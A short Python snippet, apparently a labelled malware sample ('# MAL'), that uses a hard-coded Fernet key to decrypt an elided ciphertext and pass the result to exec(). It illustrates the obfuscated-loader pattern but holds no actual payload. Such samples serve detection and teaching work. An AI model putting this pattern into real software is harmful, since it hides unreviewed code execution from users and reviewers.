from cryptography.fernet import Fernet

k = b"ZmDfcTF7_60GrrY167zsiPd67pEvs0aGOv2oasOM1Pg="
t = b"gAAAAABk..."
exec(Fernet(k).decrypt(t))  # MAL
